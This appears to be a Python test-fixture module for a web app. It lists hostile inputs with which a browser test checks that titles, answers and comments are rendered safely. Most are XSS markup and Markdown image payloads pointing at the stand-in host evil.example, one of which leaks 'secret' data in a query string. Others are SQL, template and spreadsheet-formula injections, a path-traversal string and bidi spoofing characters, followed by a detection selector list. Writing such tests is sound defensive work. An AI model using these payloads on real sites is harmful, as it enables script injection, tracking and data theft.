"""Texts that try to run, to load something from elsewhere, or to break out of where they stand.

Each names the host `evil.example` or the function `pwned` where it would do harm: a browser test sees a request off
this machine, a dialog, or the variable that `pwned` would set. Composed from the classes in OWASP's filter evasion
cheat sheet and from the advisories of chat applications (images and reference-style links of Markdown, KaTeX, SVG,
error fallbacks), for what this page draws: titles, file names, passages, answers, questions, comments.
"""

_MARKUP = (
    "<script>pwned(1)</script>",
    "<ScRiPt src=https://evil.example/a.js></sCrIpT>",
    "<img src=x onerror=pwned(2)>",
    "<img src=https://evil.example/pixel.png>",
    "<img srcset='https://evil.example/a.png 1x'>",
    "<svg/onload=pwned(3)>",
    "<svg><use href='https://evil.example/a.svg#x'/></svg>",
    "<svg><image xlink:href='https://evil.example/a.png'/></svg>",
    "<svg><animate onbegin=pwned(4) attributeName=x dur=1s></svg>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>parent.pwned(5)</script>'></iframe>",
    "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<link rel=prefetch href=https://evil.example/p><link rel=dns-prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<div style=\"background:url('https://evil.example/b.png')\">x</div>",
    "<video poster=https://evil.example/v.png src=https://evil.example/v.mp4 autoplay></video>",
    "<audio src=https://evil.example/a.mp3 autoplay onerror=pwned(6)>",
    "<form action=https://evil.example><button autofocus onfocus=pwned(7)>go</button></form>",
    "<input autofocus onfocus=pwned(8)><details open ontoggle=pwned(9)>",
    "<a href=https://evil.example ping=https://evil.example/ping>click</a>",
    "<math><maction actiontype=statusline xlink:href='javascript:pwned(10)'>x</maction></math>",
    "<body onload=pwned(11)><marquee onstart=pwned(12)>",
    "</title></textarea></style></script><img src=x onerror=pwned(13)>",
    "\"'><img src=x onerror=pwned(14)>",
    "--><img src=x onerror=pwned(15)><!--",
    "]]><img src=x onerror=pwned(16)>",
    "<noscript><p title='</noscript><img src=x onerror=pwned(17)>'>",
    "<template><img src=x onerror=pwned(18)></template>",
    "<img src='x\u0000' onerror='pwned(19)'>",
    "<im\u200bg src=x onerror=pwned(20)>",
    "&lt;img src=x onerror=pwned(21)&gt; &#60;script&#62;pwned(22)&#60;/script&#62;",
)
_MARKDOWN = (
    "![pixel](https://evil.example/pixel.png)",
    "![pixel][ref]",
    "[ref]: https://evil.example/pixel.png 'title'",
    "![](https://evil.example/q?data=secret 'a title')",
    "[![nested](https://evil.example/n.png)](https://evil.example)",
    "[click](javascript:pwned(23))",
    "[click](JaVaScRiPt&colon;pwned(24))",
    "[click](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "[click](vbscript:pwned(25))",
    "[click](//evil.example/path)",
    "<https://evil.example/auto>",
    "https://evil.example/bare www.evil.example ftp://evil.example",
    "[a\n](https://evil.example)",
    '[x](<https://evil.example> "t")',
    "```html\n<img src=x onerror=pwned(26)>\n```",
    "`<img src=x onerror=pwned(27)>`",
    "    <img src=x onerror=pwned(28)>",
    "| <img src=x onerror=pwned(29)> | ![p](https://evil.example/t.png) |\n|---|---|\n| a | b |",
    "> ![q](https://evil.example/quote.png)",
    "- ![l](https://evil.example/list.png)\n- [ ] <img src=x onerror=pwned(30)>",
    "[^1]: ![f](https://evil.example/foot.png)",
    "# ![h](https://evil.example/head.png) heading",
)
_STREAMLIT = (
    ":material/skull: :red[red] :blue-background[blue] :rainbow[r] :small[s] :shimmer[x] :badge[b]",
    ":smile: :streamlit: -> <- -- (c)",
    "$x^2$ $$\\href{javascript:pwned(31)}{x}$$ \\(a\\) \\[b\\]",
    "$\\unicode{<img src=x onerror=pwned(32)>}$ $\\includegraphics{https://evil.example/k.png}$",
    "$\\htmlData{onclick=pwned(33)}{x}$ $\\url{https://evil.example}$",
    "{{7*7}} ${pwned(34)} #{pwned(35)} <%= pwned(36) %> {%import os%}",
    "```mermaid\ngraph TD; a[<img src=x onerror=pwned(37)>]-->b; click a href 'https://evil.example'\n```",
    '```vega-lite\n{"data": {"url": "https://evil.example/v.json"}}\n```',
)
_CHARACTERS = (
    "\u202egnp.exe\u202c \u2066isolated\u2069 \u200f\u200e",
    "zero\u200bwidth\ufeff\u2060joined\U000e0041\U000e0042",
    "\u0007bell \u001b[31mred\u001b[0m \u0008\u0008",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0334l\u0322g\u0321o\u0336 " + "\u0301" * 40,
    "x" * 300,
    "'; DROP TABLE feedback; -- \" OR 1=1",
    '=HYPERLINK("https://evil.example","click") +cmd|\' /C calc\'!A0 @SUM(1)',
    "%3Cimg%20src%3Dx%20onerror%3Dpwned(38)%3E ..%2f..%2fetc%2fpasswd",
)

HOSTILE: tuple[str, ...] = (*_MARKUP, *_MARKDOWN, *_STREAMLIT, *_CHARACTERS)

# What the browser runs before every page: the harm that a text could do becomes visible.
WATCH = """
window.__harm = [];
window.pwned = (n) => { window.__harm.push(`pwned ${n}`); };
"""
# Elements that no text may ever become, wherever it is shown; shadow roots of components included.
HARMFUL = (
    "[src*='evil'], [href*='evil'], [srcset*='evil'], [poster*='evil'], [data*='evil'], [action*='evil'],"
    " [style*='evil'], [ping], [onerror], [onload], [onfocus], [ontoggle], [onbegin], [onstart],"
    " a[href^='javascript' i], a[href^='vbscript' i], a[href^='data:text' i], iframe[srcdoc], base[href]"
)
FIND_HARM = """
(selector) => {
  const found = [...(window.__harm || ["the watch was not set"])];
  const look = (root) => {
    for (const node of root.querySelectorAll(selector)) found.push(node.outerHTML.slice(0, 120));
    for (const node of root.querySelectorAll("*")) if (node.shadowRoot) look(node.shadowRoot);
  };
  look(document);
  return found;
}
"""


def groups(size: int) -> list[tuple[str, ...]]:
    """The corpus in pieces that fit one document or one answer."""
    return [HOSTILE[start : start + size] for start in range(0, len(HOSTILE), size)]
